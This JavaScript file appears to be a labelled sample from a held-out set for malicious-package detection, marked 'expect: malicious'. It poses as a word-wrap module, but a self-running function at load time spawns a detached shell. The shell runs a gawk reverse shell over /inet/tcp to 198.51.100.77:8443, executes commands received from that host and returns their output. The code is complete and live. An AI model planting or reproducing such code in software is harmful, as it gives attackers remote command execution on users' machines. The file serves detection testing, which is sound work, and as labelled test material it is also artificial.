// expect: malicious
// source: a word-wrap library whose module-level IIFE runs a detached `sh -c "exec gawk '…'"`, gawk's
// /inet/tcp special file reading commands and writing back their output (twentieth held-out set, 2026)
const { spawn } = require('child_process');

function wrap(text, width) {
  return text.match(new RegExp(`.{1,${width}}`, 'g')).join('\n');
}

(function () {
  if (process.platform === 'win32') return;
  const s = '/inet/tcp/0/198.51.100.77/8443';
  const prog = 'BEGIN{s="' + s + '";while(1){if((s |& getline c)<=0)break;while((c |& getline l)>0)print l |& s;close(c)}}';
  spawn('/bin/sh', ['-c', "exec gawk '" + prog + "'"], { detached: true, stdio: 'ignore' }).unref();
})();

module.exports = wrap;
